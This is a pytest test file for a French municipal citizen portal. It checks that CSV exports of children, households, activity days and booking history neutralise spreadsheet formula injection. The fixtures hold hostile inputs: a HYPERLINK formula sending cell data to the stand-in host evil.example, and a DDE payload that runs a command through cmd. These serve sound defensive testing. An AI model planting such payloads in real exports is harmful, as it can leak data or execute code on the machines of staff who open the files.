"""CSV exports of citizen-typed text are safe against formula injection: attendance sheet,
back-office listings (children, households, activity days) and the booking history. XLSX
exports still work and keep the text as it is (Wagtail writes it as a string cell)."""

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from espace_citoyen.activities.models import Reservation, ReservationStatus
from espace_citoyen.family.models import AuthorizedPerson, Child, Household

from tests.factories import demo_canteen_day

from ..activities._agents import pole_scolaire_agent
from ..activities.agenda_factories import make_activity, make_occurrence, make_parent, today

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"clic")'


def read_csv(response, delimiter=";"):
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=delimiter))


@pytest.fixture
def canteen_day():
    return demo_canteen_day()


@pytest.fixture
def evil_child():
    child = Child.objects.create(household=Household.objects.create(), first_name=EVIL, last_name="Zzmalveillant",
                                 birth_date=datetime.date(2018, 3, 1), school_class="CE1",
                                 allergies="@SUM(1+1)*cmd|' /C calc'!A0", has_pai=True, pai_details="+1+1",
                                 doctor_name="-2+3", doctor_phone="+33 6 12 34 56 78", legacy_id="=1+1")
    AuthorizedPerson.objects.create(child=child, name="=1+2", relationship="Oncle", phone="06 00 00 00 00")
    return child


def test_attendance_csv_quotes_formulas(client, otp_login, canteen_day, evil_child):
    Reservation.objects.create(child=evil_child, occurrence=canteen_day, status=ReservationStatus.BOOKED)
    otp_login(client, pole_scolaire_agent())
    response = client.get(reverse("activities_attendance:csv", args=[canteen_day.pk]))
    assert response.status_code == 200
    rows = read_csv(response)
    assert rows[0][:4] == ["Activité", "Date", "Nom", "Prénom"]
    evil = next(row for row in rows if row[2] == "Zzmalveillant")
    assert evil[3] == "'" + EVIL
    assert evil[5] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert evil[6] == "oui" and evil[7] == "'+1+1" and evil[8] == "'-2+3"
    assert evil[10] == "'=1+2 (Oncle) 06 00 00 00 00"
    # Nothing else in the file starts a formula; ordinary rows are untouched.
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
    chloe = next(row for row in rows if row[3] == "Chloé")
    assert chloe[:3] == ["Restauration scolaire", f"{canteen_day.date:%d/%m/%Y}", "Bernard"] and chloe[5].startswith("Arachide")


def test_children_export_csv_quotes_formulas_xlsx_still_works(client, otp_login, superuser, evil_child):
    otp_login(client, superuser)
    url = reverse("family_children:index")
    assert url == "/admin/espace-citoyen/enfants/"
    response = client.get(url, {"export": "csv", "q": "Zzmalveillant"})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert 'filename="enfants.csv"' in response["Content-Disposition"]
    rows = read_csv(response, delimiter=",")
    assert len(rows) == 2
    values = dict(zip(rows[0], rows[1], strict=True))
    assert values["Prénom"] == "'" + EVIL
    assert values["Nom"] == "Zzmalveillant"
    assert values["Identifiant Portail Famille"] == "'=1+1"
    assert "Allergies" not in values and not any("@SUM" in cell for cell in rows[1])  # no health details here
    # Non-text values are exported as before.
    assert values["Date de naissance"] == "2018-03-01"
    assert values["Household id"] == str(evil_child.household_id)

    xlsx = client.get(url, {"export": "xlsx", "q": "Zzmalveillant"})
    assert xlsx.status_code == 200
    assert xlsx["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    sheet = load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    cells = [cell for cell in sheet.iter_rows(min_row=2, values_only=True)][0]
    assert cells[0] == EVIL  # a string cell, not a formula: no quote needed in XLSX
    assert cells[2] == datetime.date(2018, 3, 1)  # dates stay dates


def test_children_export_without_search_is_safe(client, otp_login, superuser, evil_child):
    otp_login(client, superuser)
    rows = read_csv(client.get(reverse("family_children:index"), {"export": "csv"}), delimiter=",")
    assert len(rows) > 2  # the demo children are there too
    assert ["'" + EVIL, "Zzmalveillant"] in [row[:2] for row in rows]
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_households_export_csv_quotes_formulas(client, otp_login, superuser):
    household = Household.objects.create(legacy_id="@evil")
    otp_login(client, superuser)
    response = client.get(reverse("family_households:index"), {"export": "csv"})
    assert response.status_code == 200
    rows = read_csv(response, delimiter=",")
    assert [str(household.pk), "'@evil"] in [row[:2] for row in rows]
    assert client.get(reverse("family_households:index"), {"export": "xlsx"}).status_code == 200


def test_occurrences_export_quotes_formulas_in_text_and_related_objects(client, otp_login, superuser):
    activity = make_activity(name="=Atelier", label="T-csv")
    day = today() + datetime.timedelta(days=3)
    make_occurrence(activity, day, status="closed", closed_reason="-Fermeture exceptionnelle")
    otp_login(client, superuser)
    url = reverse("activities_occurrences:index")
    response = client.get(url, {"export": "csv", "activity": activity.pk})
    assert response.status_code == 200
    rows = read_csv(response, delimiter=",")
    assert rows[0] == ["Date", "Activité", "Places", "Réservées", "État", "Motif de fermeture"]
    assert rows[1] == [day.isoformat(), "'=Atelier (T-csv)", "10", "0", "closed", "'-Fermeture exceptionnelle"]
    assert client.get(url, {"export": "xlsx", "activity": activity.pk}).status_code == 200


def test_history_csv_quotes_formulas(client):
    parent, (child,) = make_parent("csv.historique@example.fr", children=(EVIL,))
    activity = make_activity(name="+Atelier du soir", label="T-csvhist")
    occurrence = make_occurrence(activity, today() - datetime.timedelta(days=10))
    Reservation.objects.create(child=child, occurrence=occurrence, status=ReservationStatus.BOOKED)
    client.force_login(parent)
    response = client.get(reverse("activities:history", args=[child.pk]), {"format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="historique-hyperlinkhttpevilexamplea1clic-{child.pk}.csv"')
    rows = read_csv(response)
    assert rows[0] == ["Date", "Activité", "État", "Origine", "Présence"]
    assert rows[1][1:] == ["'+Atelier du soir", "Réservé", "Espace citoyen", "—"]
    assert len(rows) == 2
